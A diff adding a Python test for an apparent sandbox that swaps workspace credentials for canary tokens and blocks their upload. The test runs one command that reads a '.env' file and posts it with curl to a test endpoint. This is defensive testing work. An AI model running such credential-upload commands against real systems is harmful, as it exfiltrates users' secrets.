@@ -312,6 +312,22 @@ allow_domains = ["{ORIGIN}"]
         self.assertEqual(completed("/echo/canary"), [])
         self.assertNotIn("aws_secret_access_key =", raw)
 
+    def test_a_workspace_credential_file_shows_a_canary(self):
+        with open(os.path.join(self.work, ".env"), "w") as f:
+            f.write("TOKEN=planted-by-the-owner\n")
+        os.chmod(os.path.join(self.work, ".env"), 0o644)
+        p, lines, summary, raw = self.sx(
+            "publish", "cat .env; curl -s -o /dev/null -w '%{http_code}' --data-binary @.env "
+                       "https://origin.test:8443/echo/ws-canary")
+        out = p.stdout.decode()
+        self.assertIn("GITHUB_TOKEN=ghp_", out, p.stderr.decode()[-2000:])
+        self.assertNotIn("planted-by-the-owner", out)
+        self.assertTrue(out.endswith("403"), out)
+        line = [l for l in lines if l["path"] == "/echo/ws-canary"][-1]
+        self.assertEqual((line["reason"], line["scan_rule"]), ("canary_detected", "canary:github_token"))
+        with open(os.path.join(self.work, ".env")) as f:
+            self.assertEqual(f.read(), "TOKEN=planted-by-the-owner\n")  # the owner's file untouched
+
     def test_the_callers_own_secret_is_refused_in_a_get(self):
         value = "own-secret-value-for-scan-1c9e44"
         p, lines, summary, raw = self.sx(
